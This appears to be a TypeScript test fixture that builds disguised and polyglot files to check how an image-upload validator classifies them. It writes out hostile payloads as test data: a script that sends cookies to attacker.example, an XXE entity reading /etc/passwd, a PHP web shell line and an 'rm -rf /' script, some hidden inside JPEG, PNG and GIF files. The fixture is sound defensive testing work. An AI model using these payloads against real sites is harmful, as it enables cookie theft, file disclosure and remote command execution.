import { gzipSync } from 'node:zlib';
import { invalidFileType } from '#domain/media/text.ts';
import type { HostileFile } from './hostile-files.ts';
import { drawnJpeg, drawnPicture, drawnPng } from './drawn-pictures.ts';

const SCRIPT = '<script>fetch("https://attacker.example/"+document.cookie)</script>';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60">${SCRIPT}</svg>`;

/** Files that claim to be pictures, and pictures that contain something else. */
export async function disguisedFiles(): Promise<HostileFile[]> {
  const rejected = (what: string, content: string | Buffer, type: string): HostileFile => ({
    what,
    name: `${what}.jpg`,
    bytes: Buffer.from(content),
    expected: invalidFileType(type),
  });
  const accepted = (what: string, name: string, bytes: Buffer): HostileFile => ({
    what,
    name,
    bytes,
    expected: 'done',
  });
  const jpeg = await drawnJpeg(100);
  const gif = await drawnPicture(101).gif().toBuffer();
  return [
    rejected('an HTML page', `<!DOCTYPE html><html><body>${SCRIPT}</body></html>`, 'text/html'),
    rejected('an HTML page after white space', `\n\n  <html>${SCRIPT}</html>`, 'text/html'),
    rejected('a lone script element', SCRIPT, 'text/html'),
    rejected('an SVG with a script', SVG, 'image/svg+xml'),
    rejected('an SVG behind an XML declaration', `<?xml version="1.0"?>${SVG}`, 'image/svg+xml'),
    rejected('an SVG behind a comment', `<!-- photograph -->${SVG}`, 'image/svg+xml'),
    rejected(
      'an SVG with an entity of a local file',
      `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${SVG}`,
      'image/svg+xml',
    ),
    rejected('a compressed SVG', gzipSync(SVG), 'application/gzip'),
    rejected('a PDF', '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj', 'application/pdf'),
    rejected('a zip', Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(200)]), 'application/zip'),
    rejected('a program for Windows', Buffer.concat([Buffer.from('MZ\x90\x00'), Buffer.alloc(300)]), 'unknown'),
    rejected('a program for Linux', Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(300)]), 'unknown'),
    rejected('a shell script', '#!/bin/sh\nrm -rf /\n', 'unknown'),
    rejected('a script of PHP', '<?php system($_GET["c"]); ?>', 'unknown'),
    rejected('a text', 'This is not a photograph.', 'unknown'),
    rejected('a JSON file', '{"image":true}', 'unknown'),
    rejected('a GIF', gif, 'image/gif'),
    rejected('a TIFF', await drawnPicture(102).tiff().toBuffer(), 'image/tiff'),
    rejected('an AVIF', await drawnPicture(103).avif({ effort: 0 }).toBuffer(), 'image/avif'),
    rejected('a bitmap of Windows', Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)]), 'image/bmp'),
    rejected('a GIF that is a script too', `GIF89a/*${SCRIPT}*/=1;`, 'image/gif'),
    accepted('a PNG named as a JPEG', 'a.jpg', await drawnPng(104)),
    accepted('a JPEG named as a PNG', 'a.png', await drawnJpeg(105)),
    accepted('a WebP named as a program', 'a.exe', await drawnPicture(106).webp().toBuffer()),
    accepted(
      'a JPEG with an HTML page behind its end',
      'a.html',
      Buffer.concat([jpeg, Buffer.from(`<html>${SCRIPT}`)]),
    ),
    accepted(
      'a JPEG with an HTML page as its comment',
      'b.html',
      withComment(await drawnJpeg(107), `--><html>${SCRIPT}`),
    ),
    accepted(
      'a JPEG with a zip behind its end',
      'a.zip',
      Buffer.concat([await drawnJpeg(108), Buffer.from('PK\x03\x04zip')]),
    ),
    accepted('a PNG with a script as its text', 'a.htm', withText(await drawnPng(109), `Comment\0${SCRIPT}`)),
  ];
}

/** Inserts a comment segment after the first marker of a JPEG. */
function withComment(jpeg: Buffer, comment: string): Buffer {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(comment.length + 2);
  return Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from([0xff, 0xfe]),
    length,
    Buffer.from(comment),
    jpeg.subarray(2),
  ]);
}

/** Inserts a text chunk after the header of a PNG; decoders accept its zero checksum. */
function withText(png: Buffer, text: string): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(text.length);
  head.write('tEXt', 4);
  return Buffer.concat([png.subarray(0, 33), head, Buffer.from(text), Buffer.alloc(4), png.subarray(33)]);
}
